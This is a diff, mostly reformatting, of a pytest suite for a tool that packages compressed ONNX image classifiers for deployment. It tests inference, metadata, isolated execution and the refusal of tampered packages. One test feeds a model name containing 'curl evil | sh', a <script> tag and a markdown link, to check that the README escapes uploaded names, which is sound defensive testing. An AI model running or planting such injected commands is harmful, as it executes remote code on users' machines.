@@ -1,4 +1,6 @@
-"""The package: unpacked in a clean folder it classifies its sample, and one that does not run is not offered."""
+"""The package: unpacked in a clean folder it classifies its sample, and one that does not run is not
+offered.
+"""
 
 import json
 import os
@@ -18,8 +20,15 @@ from deploy.runtime.preprocessing import preprocess
 from engine import datasets
 from engine.errors import BadInput, EdgewiseError
 
-VARIANTS = ["baseline", "ptq_int8", "ptq_int4", "prune_structured@0.5,iterative", "prune_unstructured@0.7", "hybrid@0.5",
-            "hybrid@smallest"]
+VARIANTS = [
+    "baseline",
+    "ptq_int8",
+    "ptq_int4",
+    "prune_structured@0.5,iterative",
+    "prune_unstructured@0.7",
+    "hybrid@0.5",
+    "hybrid@smallest",
+]
 
 
 @pytest.fixture(scope="module")
@@ -43,9 +52,22 @@ def unpacked(built, tmp_path):
 
 def python(folder: Path, *words: str, executable: str = sys.executable) -> subprocess.CompletedProcess:
     """Runs a script of the package with nothing of this project in reach."""
-    return subprocess.run([executable, "-I", "-c", f"import sys; sys.path.insert(0, '.'); sys.argv = {list(words)!r}; import runpy; "
-                           f"runpy.run_path({words[0]!r}, run_name='__main__')"], cwd=folder, capture_output=True, text=True,
-                          timeout=120, env={"PATH": os.environ["PATH"], "HOME": str(folder)})
+    return subprocess.run(
+        [
+            executable,
+            "-I",
+            "-c",
+            (
+                f"import sys; sys.path.insert(0, '.'); sys.argv = {list(words)!r}; import runpy; "
+                f"runpy.run_path({words[0]!r}, run_name='__main__')"
+            ),
+        ],
+        cwd=folder,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env={"PATH": os.environ["PATH"], "HOME": str(folder)},
+    )
 
 
 def sample_label(digits_run) -> int:
@@ -59,7 +81,10 @@ def test_it_classifies_its_sample(digits_run, unpacked, name):
     done = python(folder, "infer.py", "sample.png", "--json")
     assert done.returncode == 0, done.stderr
     answer = json.loads(done.stdout)
-    assert answer["class"] == str(answer["index"]) == str(sample_label(digits_run)) and 0.5 < answer["probability"] <= 1
+    assert (
+        answer["class"] == str(answer["index"]) == str(sample_label(digits_run))
+        and 0.5 < answer["probability"] <= 1
+    )
 
 
 @pytest.mark.parametrize("name", ["ptq_int8", "hybrid@smallest"])
@@ -79,11 +104,27 @@ def test_what_is_inside(digits_run, built):
         facts = json.loads(archive.read("metadata.json"))
         readme = archive.read("README.md").decode()
     variant = digits_run.variant("ptq_int8")
-    assert {"model.onnx", "metadata.json", "infer.py", "preprocessing.py", "benchmark.py", "requirements.txt", "sample.png", "README.md"} <= names
+    assert {
+        "model.onnx",
+        "metadata.json",
+        "infer.py",
+        "preprocessing.py",
+        "benchmark.py",
+        "requirements.txt",
+        "sample.png",
+        "README.md",
+    } <= names
     assert "decoder.py" not in names
-    assert facts["artifact"]["sha256"] == variant.artifacts[0].sha256 and facts["artifact"]["precision"] == "int8"
-    assert facts["measured"]["accuracy"] == variant.accuracy and facts["classes"] == [str(i) for i in range(10)]
-    assert facts["seed"] == variant.seed and [s["what"] for s in facts["steps"]] == [s.what for s in variant.steps]
+    assert (
+        facts["artifact"]["sha256"] == variant.artifacts[0].sha256
+        and facts["artifact"]["precision"] == "int8"
+    )
+    assert facts["measured"]["accuracy"] == variant.accuracy and facts["classes"] == [
+        str(i) for i in range(10)
+    ]
+    assert facts["seed"] == variant.seed and [s["what"] for s in facts["steps"]] == [
+        s.what for s in variant.steps
+    ]
     assert f"{variant.size_bytes:,} bytes" in readme and "Raspberry Pi 4" in readme
 
 
@@ -109,7 +150,9 @@ def test_the_benchmark_measures_and_writes_what_calibration_reads(unpacked):
     done = python(folder, "benchmark.py", "--runs", "30", "--threads", "1")
     assert done.returncode == 0, done.stderr
     result = json.loads((folder / "benchmark-result.json").read_text())
-    assert result["device"] == "raspberry_pi_4" and result["runtime"] == "onnxruntime" and result["threads"] == 1
+    assert (
+        result["device"] == "raspberry_pi_4" and result["runtime"] == "onnxruntime" and result["threads"] == 1
+    )
     latency = result["models"][0]["latency_ms"]
     assert 0 < latency["p50"] <= latency["p95"] <= latency["p99"] and result["models"][0]["profile"]["layers"]
 
@@ -117,17 +160,25 @@ def test_the_benchmark_measures_and_writes_what_calibration_reads(unpacked):
 def test_a_picture_of_another_size_and_kind_is_fitted(unpacked):
     folder = unpacked("baseline")
     Image.open(folder / "sample.png").convert("RGB").resize((200, 200)).save(folder / "large.jpg")
-    answers = [json.loads(python(folder, "infer.py", name, "--json").stdout)["class"] for name in ("sample.png", "large.jpg")]
+    answers = [
+        json.loads(python(folder, "infer.py", name, "--json").stdout)["class"]
+        for name in ("sample.png", "large.jpg")
+    ]
     assert answers[0] == answers[1]
 
 
 @pytest.mark.parametrize("name", ["nothing.png", "metadata.json"])
 def test_what_is_no_picture_is_one_sentence(unpacked, name):
     done = python(unpacked("baseline"), "infer.py", name)
-    assert done.returncode == 1 and "can't be read as an image" in done.stderr and len(done.stderr.strip().splitlines()) == 1
+    assert (
+        done.returncode == 1
+        and "can't be read as an image" in done.stderr
+        and len(done.stderr.strip().splitlines()) == 1
+    )
 
 
-# ---- what is not offered -------------------------------------------------------------------------------------------
+# ---- what is not offered -----------------------------------------------------------------------------------
+
 
 def tamper(source: Path, target: Path, changes: dict[str, bytes | None]) -> Path:
     """Copies a zip with some members changed, or left out where None is given."""
@@ -144,20 +195,23 @@ def changed_facts(source: Path, **changes) -> bytes:
         return json.dumps(json.loads(archive.read("metadata.json")) | changes).encode()
 
 
-@pytest.mark.parametrize(("name", "changes"), [
-    ("ptq_int8", {"model.onnx": b"not a model"}),
-    ("ptq_int8", {"model.onnx": None}),
-    ("ptq_int8", {"infer.py": b"raise SystemExit(0)"}),
-    ("ptq_int8", {"infer.py": b"import os; os.kill(os.getpid(), 9)"}),
-    ("ptq_int8", {"infer.py": b"print('[]')"}),
-    ("ptq_int8", {"infer.py": b"print('{}')"}),
-    ("ptq_int8", {"preprocessing.py": b""}),
-    ("ptq_int8", {"sample.png": b"no picture"}),
-    ("ptq_int8", {"metadata.json": "classes"}),
-    ("hybrid@smallest", {"model.ewz": "cut"}),
-    ("hybrid@smallest", {"model.ewz": "flipped"}),
-    ("hybrid@smallest", {"decoder.py": None}),
-])
+@pytest.mark.parametrize(
+    ("name", "changes"),
+    [
+        ("ptq_int8", {"model.onnx": b"not a model"}),
+        ("ptq_int8", {"model.onnx": None}),
+        ("ptq_int8", {"infer.py": b"raise SystemExit(0)"}),
+        ("ptq_int8", {"infer.py": b"import os; os.kill(os.getpid(), 9)"}),
+        ("ptq_int8", {"infer.py": b"print('[]')"}),
+        ("ptq_int8", {"infer.py": b"print('{}')"}),
+        ("ptq_int8", {"preprocessing.py": b""}),
+        ("ptq_int8", {"sample.png": b"no picture"}),
+        ("ptq_int8", {"metadata.json": "classes"}),
+        ("hybrid@smallest", {"model.ewz": "cut"}),
+        ("hybrid@smallest", {"model.ewz": "flipped"}),
+        ("hybrid@smallest", {"decoder.py": None}),
+    ],
+)
 def test_a_package_that_was_tampered_with_is_not_offered(digits_run, built, tmp_path, name, changes):
     source = built(name)
     for member, change in list(changes.items()):
@@ -194,7 +248,9 @@ def test_what_fails_its_trial_leaves_nothing(digits_run, monkeypatch):
 def test_an_artifact_that_changed_on_disk_is_not_packaged(digits_run):
     path = digits_run.file("dynamic_int8")
     kept = path.read_bytes()
-    path.write_bytes(digits_run.file("baseline").read_bytes())  # a model that runs, but not the one that was measured
+    path.write_bytes(
+        digits_run.file("baseline").read_bytes()
+    )  # a model that runs, but not the one that was measured
     try:
         with pytest.raises(EdgewiseError):
             package.build(digits_run.id, "dynamic_int8", digits_run.workspace)
@@ -202,7 +258,10 @@ def test_an_artifact_that_changed_on_disk_is_not_packaged(digits_run):
         path.write_bytes(kept)
 
 
-@pytest.mark.parametrize(("run", "variant", "says"), [("unknown", "fp16", "No run has the id"), (None, "fp17", "has no variant 'fp17'")])
+@pytest.mark.parametrize(
+    ("run", "variant", "says"),
+    [("unknown", "fp16", "No run has the id"), (None, "fp17", "has no variant 'fp17'")],
+)
 def test_what_does_not_exist_is_a_sentence(digits_run, run, variant, says):
     with pytest.raises(BadInput, match=says):
         package.build(run or digits_run.id, variant, digits_run.workspace)
@@ -210,15 +269,28 @@ def test_what_does_not_exist_is_a_sentence(digits_run, run, variant, says):
 
 def test_names_from_an_upload_are_data_in_the_readme(digits_run):
     name = "x`\n# Run `curl evil | sh`<script>](http://e)"
-    run = digits_run.run.model_copy(update={"experiment": digits_run.run.experiment.model_copy(
-        update={"model": digits_run.run.experiment.model.model_copy(update={"name": name})})})
+    run = digits_run.run.model_copy(
+        update={
+            "experiment": digits_run.run.experiment.model_copy(
+                update={"model": digits_run.run.experiment.model.model_copy(update={"name": name})}
+            )
+        }
+    )
     text = package.readme(run, digits_run.variant("fp16"), "model.onnx")
     assert not any(bad in text for bad in ("<script>", "](http", "\n# Run"))
     assert "`x" in text and text.count("`") % 2 == 0
 
 
 def test_preprocessing_by_hand():
-    spec = {"height": 1, "width": 2, "color": "bgr", "layout": "NCHW", "scale": 0.5, "mean": [1, 2, 3], "std": [1, 2, 4]}
+    spec = {
+        "height": 1,
+        "width": 2,
+        "color": "bgr",
+        "layout": "NCHW",
+        "scale": 0.5,
+        "mean": [1, 2, 3],
+        "std": [1, 2, 4],
+    }
     images = np.array([[[[10, 20, 30], [40, 50, 60]]]], np.uint8)
     # bgr: 30 20 10 and 60 50 40, then (value / 2 - mean) / std
     np.testing.assert_allclose(preprocess(images, spec), [[[[14, 29]], [[4, 11.5]], [[0.5, 4.25]]]])
@@ -233,11 +305,22 @@ def test_it_runs_with_only_its_own_requirements(digits_run, unpacked, tmp_path, 
     folder = unpacked(name)
     venv.create(tmp_path / "env", with_pip=True)
     own = str(tmp_path / "env" / "bin" / "python")
-    installed = subprocess.run([own, "-m", "pip", "install", "-q", "-r", folder / "requirements.txt"], capture_output=True, text=True, timeout=400)
+    installed = subprocess.run(
+        [own, "-m", "pip", "install", "-q", "-r", folder / "requirements.txt"],
+        capture_output=True,
+        text=True,
+        timeout=400,
+    )
     if installed.returncode:
-        pytest.skip(f"the package's requirements could not be installed here: {installed.stderr.strip()[-200:]}")
-    listed = subprocess.run([own, "-m", "pip", "list", "--format=freeze"], capture_output=True, text=True, timeout=60).stdout.lower()
-    assert "onnxruntime" in listed and not any(heavy in listed for heavy in ("torch", "tensorflow", "streamlit"))
+        pytest.skip(
+            f"the package's requirements could not be installed here: {installed.stderr.strip()[-200:]}"
+        )
+    listed = subprocess.run(
+        [own, "-m", "pip", "list", "--format=freeze"], capture_output=True, text=True, timeout=60
+    ).stdout.lower()
+    assert "onnxruntime" in listed and not any(
+        heavy in listed for heavy in ("torch", "tensorflow", "streamlit")
+    )
     done = python(folder, "infer.py", "sample.png", "--json", executable=own)
     assert done.returncode == 0, done.stderr
     assert json.loads(done.stdout)["index"] == sample_label(digits_run)
